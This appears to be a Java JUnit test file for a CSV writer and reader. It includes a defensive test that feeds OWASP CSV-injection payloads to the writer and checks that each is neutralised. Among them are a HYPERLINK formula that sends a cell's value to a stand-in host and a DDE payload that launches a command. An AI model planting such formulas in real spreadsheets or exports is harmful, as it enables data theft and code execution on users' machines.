package uk.headsup.platform.format;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.StringReader;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class CsvFormatTest {

    /** The payloads of OWASP's CSV Injection page, and the characters it names. */
    @Test
    void noCellCanStartAFormula() throws Exception {
        List<String> payloads = List.of(
                "=1+1",
                "+1+1",
                "-1+1",
                "@SUM(1,1)",
                "\t=1+1",
                "\r=1+1",
                "=HYPERLINK(\"http://evil.example?\"&A1,\"Click\")",
                "=cmd|' /C calc'!A0",
                "＝1+1");
        String csv = CsvWriter.table(
                List.of("value"), payloads.stream().map(p -> List.of(p)).toList());
        List<CSVRecord> records = CSVFormat.RFC4180.parse(new StringReader(csv)).getRecords();
        assertThat(records).hasSize(payloads.size() + 1);
        for (int i = 0; i < payloads.size(); i++) {
            assertThat(records.get(i + 1).get(0)).isEqualTo("'" + payloads.get(i));
        }
    }

    @Test
    void quotesWhatNeedsQuotingAndEndsLinesWithCrLf() {
        String csv = CsvWriter.table(List.of("a", "b"), List.of(List.of("x, y", "say \"hi\"")));
        assertThat(csv).isEqualTo("a,b\r\n\"x, y\",\"say \"\"hi\"\"\"\r\n");
    }

    @Test
    void readsColumnsByHeaderWithLineNumbers() {
        var table = CsvReader.read(new StringReader("\uFEFFName , Date of birth\r\nAda,01/02/2015\r\n\r\nBea,\r\n"));
        assertThat(table.header()).containsExactly("Name", "Date of birth");
        assertThat(table.rows()).hasSize(2);
        assertThat(table.rows().get(0).line()).isEqualTo(2);
        assertThat(table.rows().get(0).get("name")).isEqualTo("Ada");
        assertThat(table.rows().get(1).line()).isEqualTo(4);
        assertThat(table.missing(List.of("Name", "UPN"))).containsExactly("UPN");
    }

    @Test
    void aRowIsNamedByTheLineItStartsOnEvenWhenACellSpansSeveral() {
        var table = CsvReader.read(
                new StringReader("Name,Note\r\nAda,\"two\r\nlines\"\r\n\r\n,\r\nBea,x\nCy,\u00A0last\u00A0"));
        assertThat(table.rows()).extracting(CsvReader.Row::line).containsExactly(2L, 6L, 7L);
        assertThat(table.rows().get(0).get("note")).isEqualTo("two\r\nlines");
        assertThat(table.rows().get(0).fields()).isEqualTo(2);
        assertThat(table.rows().get(2).get("NOTE")).isEqualTo("last");
    }

    @Test
    void aFileThatIsNotCsvSaysWhere() {
        assertThatThrownBy(() -> CsvReader.read(new StringReader("a,b\r\n1,2\r\n3,\"unclosed\r\n")))
                .isInstanceOf(CsvReader.MalformedCsv.class)
                .hasMessageStartingWith("Line ");
    }

    @Test
    void streamsRecordsWithTheLineEachStartsOnSkippingEmptyLines() throws Exception {
        String csv =
                "\uFEFFURN , Name,Town\r\n1,\"Two\r\nlines\",A\r\n\r\n2,\"Say \"\"hi\"\", then go\",B\n3,,\r\n4,Last";
        try (CsvReader.Records records = CsvReader.stream(new StringReader(csv))) {
            assertThat(records.header()).containsExactly("URN", "Name", "Town");
            assertThat(records.next()).isTrue();
            assertThat(records.line()).isEqualTo(2);
            assertThat(records.fields()).containsExactly("1", "Two\r\nlines", "A");
            assertThat(records.next()).isTrue();
            assertThat(records.line()).as("after an empty line").isEqualTo(5);
            assertThat(records.fields()).containsExactly("2", "Say \"hi\", then go", "B");
            assertThat(records.next()).isTrue();
            assertThat(records.line()).isEqualTo(6);
            assertThat(records.fields()).containsExactly("3", "", "");
            assertThat(records.next()).isTrue();
            assertThat(records.line()).as("without a last line break").isEqualTo(7);
            assertThat(records.fields()).containsExactly("4", "Last");
            assertThat(records.next()).isFalse();
        }
    }

    @Test
    void aStreamedRecordThatIsNotCsvStopsTheReadingWithItsLine() throws Exception {
        try (CsvReader.Records records =
                CsvReader.stream(new StringReader("a,b\r\n1,2\r\n3,\"closed\"early\r\n4,5\r\n"))) {
            assertThat(records.next()).isTrue();
            assertThatThrownBy(records::next)
                    .isInstanceOf(CsvReader.MalformedCsv.class)
                    .hasMessageStartingWith("Line 3: ")
                    .extracting(e -> ((CsvReader.MalformedCsv) e).line())
                    .isEqualTo(3L);
        }
        assertThatThrownBy(() -> CsvReader.stream(new StringReader("")))
                .isInstanceOf(CsvReader.MalformedCsv.class)
                .hasMessageContaining("empty");
    }

    @Test
    void aGuardedCellReadsBackAsWritten() {
        for (String text : List.of("=SUM(A1)", "-1 day", "@home", "+44", "'quoted", "plain", "'")) {
            assertThat(CsvWriter.unguarded(CsvWriter.cell(text))).isEqualTo(text);
        }
    }
}
